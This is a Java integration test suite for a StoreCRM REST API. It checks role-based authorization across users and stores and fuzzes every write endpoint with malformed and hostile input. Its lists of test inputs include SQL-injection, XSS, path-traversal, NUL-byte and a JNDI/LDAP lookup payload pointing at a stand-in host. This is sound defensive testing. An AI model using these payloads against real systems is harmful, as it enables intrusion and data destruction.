package org.storecrm.contract;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.math.BigDecimal;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.time.LocalDate;
import java.time.YearMonth;
import java.util.ArrayList;
import java.util.Base64;
import java.util.Comparator;
import java.util.HashMap;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Supplier;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/**
 * The API attacked the way an outsider would, generated from the document the running StoreCRM
 * serves at /openapi, so an endpoint added tomorrow is attacked without a line of test code:
 *
 * <ol>
 *   <li>the authorization matrix: every operation, called by every demo user, without credentials
 *       and with the other store's ids. No credentials answer 401; a role the operation's {@code
 *       x-roles} leaves out never gets a 2xx; another store's record is always 404 (403 where the
 *       role may not call the operation at all).
 *   <li>hostile requests on every write operation, built from its request schema (malformed JSON,
 *       wrong types, nulls, 100 KB strings, out-of-range numbers, unknown enums, emoji, injection
 *       strings, far dates, control and bidi characters, bad path ids, a reused Idempotency-Key
 *       with another body): never a 5xx, every error problem+json, a refused request changes no
 *       list (counted before and after through the API) and every 2xx stored exactly the fields
 *       sent.
 * </ol>
 *
 * Seeded ({@code -Dstorecrm.attack.seed=}, default 13) and repeatable on a fresh server; prints its
 * figures.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class AttackSuiteIT {
  private static final String PASSWORD = "demo";
  private static final String ADMIN = "admin";

  /** The demo users, their role and store (null: head office, every store). */
  private static final Map<String, String[]> USERS = new LinkedHashMap<>();

  static {
    USERS.put("admin", new String[] {"ADMIN", null});
    USERS.put("manager", new String[] {"MANAGER", "flagship"});
    USERS.put("consultant", new String[] {"CONSULTANT", "flagship"});
    USERS.put("tech", new String[] {"SERVICE", "flagship"});
    USERS.put("accounts", new String[] {"ACCOUNT_MANAGER", "flagship"});
    USERS.put("plaza.manager", new String[] {"MANAGER", "plaza"});
    USERS.put("plaza.consultant", new String[] {"CONSULTANT", "plaza"});
  }

  private static final List<String> WRITE_METHODS = List.of("post", "put", "patch", "delete");
  private static final String BIG = "x".repeat(100 * 1024);
  private static final List<String> HOSTILE_STRINGS =
      List.of(
          "",
          " ",
          BIG,
          "😀🏪📱 emoji",
          "' OR '1'='1'; DROP TABLE plt_user; --",
          "<script>alert(1)</script><img src=x onerror=alert(2)>",
          "NUL\u0000inside",
          "bell\u0007tab\ttab",
          "\u202Eevil\u202C right-to-left override",
          "../../etc/passwd",
          "%00%2e%2e%2f",
          "${jndi:ldap://example.invalid/a}");
  private static final List<String> HOSTILE_NUMBERS =
      List.of(
          "1e308",
          "-1e308",
          "9223372036854775808",
          "-9223372036854775809",
          "-1",
          "0",
          "0.5",
          "1e-308",
          "2147483648",
          "NaN");
  private static final List<String> HOSTILE_DATES =
      List.of(
          "0001-01-01", "9999-12-31", "2026-02-30", "20261205", "yesterday", "-999999999-01-01");
  private static final List<String> BAD_IDS =
      List.of(
          "0", "-1", "9223372036854775808", "99999999999", "abc", "1.5", "1e3", "%27%20OR%201=1");
  private static final List<String> MALFORMED =
      List.of(
          "{",
          "{\"a\":",
          "[1,2",
          "nul",
          "{\"x\":1}}",
          "\u0000",
          "{'single':'quotes'}",
          "{\"a\":1,\"a\":2}");

  private static URI base;
  private static JsonNode document;
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final HttpClient HTTP =
      HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
  private static final List<Operation> OPERATIONS = new ArrayList<>();
  private static final Map<Integer, Integer> HISTOGRAM = new TreeMap<>();
  private static final Map<String, Map<String, List<String>>> IDS_BY_STORE = new HashMap<>();
  private static final Map<String, String> STORE_CODE_BY_ID = new HashMap<>();
  private static long seed;
  private static int requests;

  /** One operation of the served document. */
  record Operation(String method, String path, String id, List<String> roles, JsonNode node) {
    boolean write() {
      return WRITE_METHODS.contains(method);
    }

    JsonNode bodySchema() {
      JsonNode content = node.path("requestBody").path("content");
      JsonNode json = content.path("application/json").path("schema");
      return json.isMissingNode() ? null : json;
    }

    boolean takesIdempotencyKey() {
      for (JsonNode parameter : node.path("parameters")) {
        if ("Idempotency-Key".equalsIgnoreCase(parameter.path("name").asText())) {
          return true;
        }
      }
      return false;
    }

    @Override
    public String toString() {
      return method.toUpperCase() + " " + path;
    }
  }

  private record Answer(int status, String type, String body, String location) {}

  @BeforeAll
  static void readTheDocument() throws Exception {
    seed = Long.getLong("storecrm.attack.seed", 13L);
    base = ServedStoreCrm.baseUri(Path.of(System.getProperty("storecrm.contract.work")));
    document = JSON.readTree(send("GET", "/openapi", null, null, Map.of()).body());
    document
        .get("paths")
        .fields()
        .forEachRemaining(
            path ->
                path.getValue()
                    .fields()
                    .forEachRemaining(
                        method -> {
                          JsonNode op = method.getValue();
                          if (!op.has("operationId")) {
                            return;
                          }
                          List<String> roles = null;
                          if (op.has("x-roles")) {
                            roles = new ArrayList<>();
                            for (JsonNode role : op.get("x-roles")) {
                              roles.add(role.asText());
                            }
                          }
                          OPERATIONS.add(
                              new Operation(
                                  method.getKey(),
                                  path.getKey(),
                                  op.get("operationId").asText(),
                                  roles,
                                  op));
                        }));
    OPERATIONS.sort(Comparator.comparing(Operation::path).thenComparing(Operation::method));
    for (JsonNode store : items(send("GET", "/api/v1/stores", ADMIN, null, Map.of()))) {
      String code = store.path("code").asText().toLowerCase();
      STORE_CODE_BY_ID.put(
          store.path("id").asText(), code.contains("plaza") ? "plaza" : "flagship");
    }
    collectIds();
  }

  /**
   * For every collection the admin can list, the ids of its records by store: where the other
   * store's ids for the matrix and the hostile requests' valid ids come from.
   */
  private static void collectIds() throws Exception {
    for (Operation op : OPERATIONS) {
      if (!op.method().equals("get") || op.path().contains("{") || required(op)) {
        continue;
      }
      Answer answer = send("GET", op.path(), ADMIN, null, Map.of());
      if (answer.status() != 200) {
        continue;
      }
      Map<String, List<String>> byStore = new HashMap<>();
      for (JsonNode item : items(answer)) {
        if (!item.has("id")) {
          continue;
        }
        String store =
            item.has("storeId") ? STORE_CODE_BY_ID.get(item.get("storeId").asText()) : null;
        byStore
            .computeIfAbsent(store == null ? "any" : store, s -> new ArrayList<>())
            .add(item.get("id").asText());
        byStore.computeIfAbsent("all", s -> new ArrayList<>()).add(item.get("id").asText());
      }
      IDS_BY_STORE.put(op.path(), byStore);
    }
  }

  private static boolean required(Operation op) {
    for (JsonNode parameter : op.node().path("parameters")) {
      if (parameter.path("required").asBoolean() && !"path".equals(parameter.path("in").asText())) {
        return true;
      }
    }
    return false;
  }

  @Test
  @Order(1)
  void everyOperationDeclaresItsRoles() {
    List<String> undeclared =
        OPERATIONS.stream().filter(op -> op.roles() == null).map(Operation::toString).toList();
    System.out.println(
        "attack: " + undeclared.size() + " operations without x-roles: " + undeclared);
    assertThat(OPERATIONS).hasSizeGreaterThan(50);
    assertThat(undeclared).as("operations the document gives no x-roles").isEmpty();
  }

  @Test
  @Order(2)
  void theAuthorizationMatrix() throws Exception {
    List<String> failures = new ArrayList<>();
    int calls = 0;
    for (Operation op : OPERATIONS) {
      // Without credentials: 401, whatever the path holds.
      Answer anonymous =
          send(op.method(), resolve(op, "flagship", new Random(seed)), null, body(op), headers(op));
      calls++;
      if (anonymous.status() != 401) {
        failures.add(op + " without credentials answered " + anonymous.status());
      }
      for (Map.Entry<String, String[]> user : USERS.entrySet()) {
        String role = user.getValue()[0];
        String store = user.getValue()[1];
        boolean allowed = op.roles() == null || op.roles().contains(role);
        if (op.method().equals("delete") && allowed) {
          continue; // an allowed delete would delete: the hostile part attacks deletes
        }
        String own = resolve(op, store == null ? "flagship" : store, new Random(seed));
        if (!allowed) {
          Answer answer = send(op.method(), own, user.getKey(), body(op), headers(op));
          calls++;
          check(op, answer, failures);
          if (answer.status() < 300) {
            failures.add(
                op
                    + " as "
                    + user.getKey()
                    + " ("
                    + role
                    + ", not in "
                    + op.roles()
                    + ") answered "
                    + answer.status());
          }
        }
        if (store == null || !op.path().contains("{")) {
          continue;
        }
        String other = store.equals("plaza") ? "flagship" : "plaza";
        String foreign = resolveStrict(op, other);
        if (foreign == null) {
          continue;
        }
        Answer answer = send(op.method(), foreign, user.getKey(), body(op), headers(op));
        calls++;
        check(op, answer, failures);
        boolean ok =
            answer.status() == 404
                || (!allowed && answer.status() == 403)
                || (op.write() && op.bodySchema() != null && answer.status() == 400);
        if (!ok) {
          failures.add(
              op
                  + " as "
                  + user.getKey()
                  + " on "
                  + other
                  + "'s "
                  + foreign
                  + " answered "
                  + answer.status()
                  + " (expected 404)");
        }
      }
    }
    System.out.println(
        "attack: authorization matrix "
            + OPERATIONS.size()
            + " operations, "
            + calls
            + " calls, "
            + failures.size()
            + " failures");
    assertThat(failures).as("authorization matrix").isEmpty();
  }

  @Test
  @Order(3)
  void hostileRequestsOnEveryWriteOperation() throws Exception {
    Random random = new Random(seed);
    List<String> failures = new ArrayList<>();
    List<Operation> writes =
        OPERATIONS.stream()
            .filter(Operation::write)
            .sorted(
                Comparator.comparing(
                    op -> List.of("post", "put", "patch", "delete").indexOf(op.method())))
            .toList();
    int before = requests;
    for (Operation op : writes) {
      String list = listOf(op);
      long countBefore = list == null ? -1 : count(list);
      int successes = 0;
      for (Hostile hostile : hostiles(op, random)) {
        Answer answer = send(op.method(), hostile.path(), ADMIN, hostile.body(), hostile.headers());
        check(op, answer, failures);
        if (answer.status() >= 200 && answer.status() < 300) {
          successes++;
          compareStored(op, hostile, answer, failures);
        }
      }
      if (op.takesIdempotencyKey() && op.bodySchema() != null) {
        successes += reusedKey(op, random, failures);
      }
      if (list != null && successes == 0) {
        long countAfter = count(list);
        if (countAfter != countBefore) {
          failures.add(
              op
                  + ": every request was refused yet "
                  + list
                  + " went from "
                  + countBefore
                  + " to "
                  + countAfter
                  + " records (half-saved)");
        }
      }
    }
    int hostileRequests = requests - before;
    System.out.println(
        "attack: seed "
            + seed
            + ", "
            + writes.size()
            + " write operations, "
            + hostileRequests
            + " hostile requests, statuses "
            + HISTOGRAM
            + ", "
            + failures.size()
            + " failures");
    failures.forEach(failure -> System.out.println("attack failure: " + failure));
    assertThat(hostileRequests).isGreaterThanOrEqualTo(1000);
    assertThat(failures).as("hostile requests").isEmpty();
  }

  /** The same Idempotency-Key with another body never makes a second record. */
  private static int reusedKey(Operation op, Random random, List<String> failures)
      throws Exception {
    String key = UUID.randomUUID().toString();
    String path = resolve(op, "flagship", random);
    if (!(valid(op.bodySchema(), random, 0) instanceof ObjectNode first)) {
      return 0;
    }
    Answer one = send(op.method(), path, ADMIN, first.toString(), Map.of("Idempotency-Key", key));
    ObjectNode second = first.deepCopy();
    mutateFirstScalar(second, random);
    Answer two = send(op.method(), path, ADMIN, second.toString(), Map.of("Idempotency-Key", key));
    check(op, one, failures);
    check(op, two, failures);
    if (one.status() < 300 && two.status() < 300) {
      String a = JSON.readTree(one.body()).path("id").asText();
      String b = JSON.readTree(two.body()).path("id").asText();
      if (!a.equals(b)) {
        failures.add(
            op
                + ": a reused Idempotency-Key with another body made a second record "
                + a
                + " / "
                + b);
      }
    }
    return (one.status() < 300 ? 1 : 0) + (two.status() < 300 ? 1 : 0);
  }

  private static void mutateFirstScalar(ObjectNode body, Random random) {
    Iterator<Map.Entry<String, JsonNode>> fields = body.fields();
    while (fields.hasNext()) {
      Map.Entry<String, JsonNode> field = fields.next();
      if (field.getValue().isTextual()) {
        body.put(field.getKey(), field.getValue().asText() + " other " + random.nextInt(1000));
        return;
      }
      if (field.getValue().isIntegralNumber()) {
        body.put(field.getKey(), field.getValue().asLong() + 1);
        return;
      }
    }
  }

  private record Hostile(String path, String body, Map<String, String> headers, String what) {}

  /** The hostile requests of one write operation, built from its path and request schema. */
  private static List<Hostile> hostiles(Operation op, Random random) {
    List<Hostile> out = new ArrayList<>();
    String path = resolve(op, "flagship", random);
    Supplier<Map<String, String>> headers = () -> headers(op);
    JsonNode schema = op.bodySchema();
    for (String malformed : MALFORMED) {
      out.add(new Hostile(path, malformed, headers.get(), "malformed"));
    }
    for (String whole : List.of("null", "[]", "\"text\"", "42", "{}", "[{}]")) {
      out.add(new Hostile(path, whole, headers.get(), "wrong body type"));
    }
    if (op.path().contains("{")) {
      for (String bad : BAD_IDS) {
        out.add(
            new Hostile(
                op.path().replaceAll("\\{[^}]+}", bad),
                schema == null ? null : valid(schema, random, 0).toString(),
                headers.get(),
                "bad path id"));
      }
    }
    if (schema == null || !resolveRef(schema).path("properties").isObject()) {
      return out;
    }
    JsonNode properties = resolveRef(schema).path("properties");
    properties
        .fields()
        .forEachRemaining(
            property -> {
              JsonNode type = resolveRef(property.getValue());
              List<JsonNode> values = new ArrayList<>();
              values.add(JsonNodeFactory.instance.nullNode());
              values.add(JsonNodeFactory.instance.objectNode());
              values.add(JsonNodeFactory.instance.arrayNode());
              values.add(JsonNodeFactory.instance.booleanNode(true));
              String kind = type.path("type").asText();
              String format = type.path("format").asText();
              if (type.has("enum")) {
                values.add(JsonNodeFactory.instance.textNode("NOT_A_VALUE"));
                values.add(
                    JsonNodeFactory.instance.textNode(
                        type.get("enum").get(0).asText().toLowerCase()));
              }
              if (kind.equals("integer") || kind.equals("number")) {
                for (String number : HOSTILE_NUMBERS) {
                  values.add(
                      number.equals("NaN")
                          ? JsonNodeFactory.instance.textNode(number)
                          : raw(number));
                }
                values.add(JsonNodeFactory.instance.textNode("12"));
              } else if (format.equals("date") || format.equals("date-time")) {
                for (String date : HOSTILE_DATES) {
                  values.add(
                      JsonNodeFactory.instance.textNode(
                          format.equals("date-time") ? date + "T00:00:00Z" : date));
                }
              } else {
                values.add(raw("12"));
                for (int i = 0; i < HOSTILE_STRINGS.size(); i++) {
                  values.add(JsonNodeFactory.instance.textNode(HOSTILE_STRINGS.get(i)));
                }
              }
              for (JsonNode value : values) {
                ObjectNode body = (ObjectNode) valid(schema, random, 0);
                body.set(property.getKey(), value);
                out.add(new Hostile(path, body.toString(), headers.get(), property.getKey()));
              }
            });
    ObjectNode plain = (ObjectNode) valid(schema, random, 0);
    out.add(new Hostile(path, plain.toString(), headers.get(), "valid"));
    ObjectNode unknown = plain.deepCopy();
    unknown.put("isAdmin", true);
    unknown.put("storeId", 999999);
    out.add(new Hostile(path, unknown.toString(), headers.get(), "unknown members"));
    return out;
  }

  private static JsonNode raw(String number) {
    try {
      return JSON.readTree(number);
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  /** A plausible value for a schema: what a careful client would send. */
  private static JsonNode valid(JsonNode schema, Random random, int depth) {
    JsonNode type = resolveRef(schema);
    JsonNodeFactory f = JsonNodeFactory.instance;
    if (type.has("enum")) {
      return f.textNode(type.get("enum").get(0).asText());
    }
    String format = type.path("format").asText();
    switch (type.path("type").asText("object")) {
      case "string":
        if (format.equals("date")) {
          return f.textNode(LocalDate.now().plusDays(3).toString());
        }
        if (format.equals("date-time")) {
          return f.textNode(LocalDate.now().plusDays(3) + "T10:00:00Z");
        }
        if (format.equals("email")) {
          return f.textNode("attack" + random.nextInt(100000) + "@example.com");
        }
        return f.textNode("Attack " + random.nextInt(100000));
      case "integer":
        return f.numberNode(1 + random.nextInt(5));
      case "number":
        return f.numberNode(new BigDecimal(1 + random.nextInt(50) + ".50"));
      case "boolean":
        return f.booleanNode(true);
      case "array":
        ArrayNode array = f.arrayNode();
        if (depth < 3) {
          array.add(valid(type.path("items"), random, depth + 1));
        }
        return array;
      default:
        ObjectNode object = f.objectNode();
        if (depth < 3) {
          type.path("properties")
              .fields()
              .forEachRemaining(
                  p -> object.set(p.getKey(), valid(p.getValue(), random, depth + 1)));
        }
        return object;
    }
  }

  private static JsonNode resolveRef(JsonNode schema) {
    JsonNode current = schema;
    for (int i = 0; i < 5 && current.has("$ref"); i++) {
      String name = current.get("$ref").asText().replace("#/components/schemas/", "");
      current = document.path("components").path("schemas").path(name);
    }
    if (current.has("allOf") && current.get("allOf").size() == 1) {
      return resolveRef(current.get("allOf").get(0));
    }
    return current;
  }

  /** Every 2xx stored what was sent: the scalar members sent read back equal. */
  private static void compareStored(
      Operation op, Hostile hostile, Answer answer, List<String> failures) throws Exception {
    if (hostile.body() == null || !hostile.body().startsWith("{") || op.bodySchema() == null) {
      return;
    }
    JsonNode sent;
    try {
      sent = JSON.readTree(hostile.body());
    } catch (Exception notJson) {
      return;
    }
    if (!sent.isObject()) {
      return;
    }
    JsonNode stored = null;
    if (answer.location() != null) {
      Answer read = send("GET", URI.create(answer.location()).getRawPath(), ADMIN, null, Map.of());
      if (read.status() == 200) {
        stored = JSON.readTree(read.body());
      }
    }
    if (stored == null && answer.body() != null && answer.body().startsWith("{")) {
      stored = JSON.readTree(answer.body());
    }
    if (stored == null) {
      return;
    }
    // Members the request schema does not declare are ignored by design, and the version sent is
    // the optimistic lock's check: the answer carries the next one.
    JsonNode declared = resolveRef(op.bodySchema()).path("properties");
    Iterator<Map.Entry<String, JsonNode>> fields = sent.fields();
    while (fields.hasNext()) {
      Map.Entry<String, JsonNode> field = fields.next();
      JsonNode value = field.getValue();
      JsonNode back = stored.get(field.getKey());
      if (back == null
          || !declared.has(field.getKey())
          || "version".equals(field.getKey())
          || !value.isValueNode()
          || value.isNull()
          || !back.isValueNode()) {
        continue;
      }
      boolean same =
          value.isNumber() && back.isNumber()
              ? value.decimalValue().compareTo(back.decimalValue()) == 0
              : value.asText().equals(back.asText()) && value.getNodeType() == back.getNodeType();
      if (!same && !(value.isTextual() && back.isTextual() && isInstant(value.asText()))) {
        failures.add(
            op
                + " ("
                + hostile.what()
                + ") answered "
                + answer.status()
                + " but stored "
                + field.getKey()
                + "="
                + shorten(back.toString())
                + " for "
                + shorten(value.toString()));
      }
    }
  }

  private static boolean isInstant(String text) {
    return text.matches("\\d{4}-\\d{2}-\\d{2}T.*");
  }

  /** The list whose size a write changes: its own path or the nearest listable ancestor. */
  private static String listOf(Operation op) {
    String path = op.path();
    while (path.lastIndexOf('/') > "/api/v1".length()) {
      final String candidate = path;
      boolean listable =
          !candidate.contains("{")
              && OPERATIONS.stream()
                  .anyMatch(
                      o -> o.method().equals("get") && o.path().equals(candidate) && !required(o));
      if (listable) {
        return candidate;
      }
      path = path.substring(0, path.lastIndexOf('/'));
    }
    return null;
  }

  private static long count(String list) throws Exception {
    Answer answer = send("GET", list, ADMIN, null, Map.of());
    if (answer.status() != 200) {
      return -1;
    }
    JsonNode node = JSON.readTree(answer.body());
    if (node.has("total")) {
      return node.get("total").asLong();
    }
    return items(answer).size();
  }

  private static List<JsonNode> items(Answer answer) throws Exception {
    List<JsonNode> out = new ArrayList<>();
    if (answer.body() == null || answer.body().isEmpty()) {
      return out;
    }
    JsonNode node = JSON.readTree(answer.body());
    JsonNode array = node.isArray() ? node : node.path("items");
    array.forEach(out::add);
    return out;
  }

  /** The path with the ids of a record of the given store (the first path parameter). */
  private static String resolve(Operation op, String store, Random random) {
    String strict = resolveStrict(op, store);
    return strict != null ? strict : fill(op.path(), "1");
  }

  private static String resolveStrict(Operation op, String store) {
    if (!op.path().contains("{")) {
      return op.path();
    }
    String collection = op.path().substring(0, op.path().indexOf("/{"));
    Map<String, List<String>> ids = IDS_BY_STORE.get(collection);
    if (ids == null || ids.get(store) == null || ids.get(store).isEmpty()) {
      return null;
    }
    List<String> candidates = ids.get(store);
    return fill(op.path(), candidates.get(candidates.size() - 1));
  }

  private static String fill(String path, String id) {
    String month = YearMonth.now().toString();
    return path.replaceAll("\\{month}", month).replaceAll("\\{[^}]+}", id);
  }

  private static Map<String, String> headers(Operation op) {
    return op.takesIdempotencyKey()
        ? Map.of("Idempotency-Key", UUID.randomUUID().toString())
        : Map.of();
  }

  private static String body(Operation op) {
    return op.bodySchema() == null ? null : "{}";
  }

  /** No 5xx, and every error problem+json. */
  private static void check(Operation op, Answer answer, List<String> failures) {
    if (answer.status() >= 500) {
      failures.add(op + " answered " + answer.status() + ": " + shorten(answer.body()));
    } else if (answer.status() >= 400
        && answer.status() != 401
        && !answer.type().startsWith("application/problem+json")) {
      failures.add(
          op + " answered " + answer.status() + " as " + answer.type() + " (not problem+json)");
    }
  }

  private static String shorten(String text) {
    return text == null || text.length() < 200 ? text : text.substring(0, 200) + "…";
  }

  private static Answer send(
      String method, String path, String user, String body, Map<String, String> headers)
      throws Exception {
    URI uri = base.resolve(path.startsWith("/") ? path.substring(1) : path);
    HttpRequest.Builder request =
        HttpRequest.newBuilder(uri)
            .timeout(Duration.ofSeconds(60))
            .header("Accept", "application/json")
            .method(
                method.toUpperCase(),
                body == null
                    ? HttpRequest.BodyPublishers.noBody()
                    : HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8));
    if (body != null) {
      request.header("Content-Type", "application/json");
    }
    if (user != null) {
      String token =
          Base64.getEncoder()
              .encodeToString((user + ":" + PASSWORD).getBytes(StandardCharsets.UTF_8));
      request.header("Authorization", "Basic " + token);
    }
    headers.forEach(request::header);
    HttpResponse<String> response;
    try {
      response = HTTP.send(request.build(), HttpResponse.BodyHandlers.ofString());
    } catch (java.io.IOException e) {
      throw new java.io.IOException(
          "no answer to " + method + " " + path + " with " + shorten(body) + " " + headers, e);
    }
    requests++;
    HISTOGRAM.merge(response.statusCode(), 1, Integer::sum);
    return new Answer(
        response.statusCode(),
        response.headers().firstValue("Content-Type").orElse(""),
        response.body(),
        response.headers().firstValue("Location").orElse(null));
  }
}
